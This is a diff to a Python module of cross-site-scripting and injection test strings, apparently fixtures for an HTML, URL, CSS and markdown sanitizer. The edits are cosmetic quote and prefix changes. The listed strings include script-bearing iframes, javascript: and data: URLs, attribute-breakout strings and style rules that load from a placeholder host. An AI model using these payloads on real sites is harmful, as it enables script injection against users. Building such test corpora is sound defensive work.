@@ -1,7 +1,7 @@
 """Texts that try to run something, to load something or to break out of where they stand.
 
-Each sets ``window.__pwned``, opens a dialog or asks for something at `HOST`, wherever it is taken for markup, for
-code, for an address or for a style. None of them means anything as text.
+Wherever it is taken for markup, for code, for an address or for a style, each sets ``window.__pwned``, opens
+a dialog or asks for something at `HOST`. None of them means anything as text.
 """
 
 from __future__ import annotations
@@ -81,8 +81,8 @@ _FOREIGN = (
     f"<math><mtext><table><mglyph><style><!--</style>{_IMG}",
     f"<math href=javascript:{_JS}>x</math>",
     f"<math><annotation-xml encoding=text/html>{_IMG}</annotation-xml></math>",
-    f"<iframe srcdoc='<script>parent.__pwned=1</script>'>",
-    f"<iframe src=javascript:parent.__pwned=1></iframe>",
+    "<iframe srcdoc='<script>parent.__pwned=1</script>'>",
+    "<iframe src=javascript:parent.__pwned=1></iframe>",
     f"<iframe src={_URL}></iframe>",
     f"<iframe onload={_JS}></iframe>",
     f"<frameset onload={_JS}>",
@@ -102,7 +102,7 @@ _ADDRESSES = (
     f"\x01javascript:{_JS}",
     f"javascript://%0a{_JS}",
     f"vbscript:{_JS}",
-    f"data:text/html,<script>parent.__pwned=1</script>",
+    "data:text/html,<script>parent.__pwned=1</script>",
     "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
     f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_JS}'/>",
     f"<a href=javascript:{_JS}>go</a>",
@@ -122,7 +122,7 @@ _STYLES = (
     f"<style>*{{background:url({_URL}s.png)}}</style>",
     f"}} body {{ background: url({_URL}x.png) }}",
     f"-moz-binding:url({_URL}x.xml#a)",
-    f"#fff\"onload={_JS} x=\"",
+    f'#fff"onload={_JS} x="',
     f"var(--x,url({_URL}v.png))",
     f"image-set('{_URL}i.png' 1x)",
     f"@font-face{{font-family:x;src:url({_URL}f.woff)}}",
@@ -140,10 +140,10 @@ _CLOSING = (
     f"</td></tr></table>{_IMG}",
     f'" onmouseover="{_JS}" x="',
     f"' autofocus onfocus={_JS} '",
-    f"\" style=\"background:url({_URL})",
+    f'" style="background:url({_URL})',
     "</p></div></body></html>",
     f"*/{_JS}/*",
-    f"\\\";{_JS}//",
+    f'\\";{_JS}//',
     f"';{_JS};'",
     f"\n{_JS}\n",
     f"`;{_JS};`",
@@ -171,7 +171,7 @@ _MARKDOWN = (
     f"[go](javascript:{_JS})",
     f"[go](  JaVaScRiPt:{_JS} 'title')",
     f"![see](http:{_URL}m.png)",
-    f"![x](x \"onerror={_JS}\")",
+    f'![x](x "onerror={_JS}")',
     f"[![i]({_URL}i.png)](javascript:{_JS})",
     f"<javascript:{_JS}>",
     f"<http:{_URL}>",
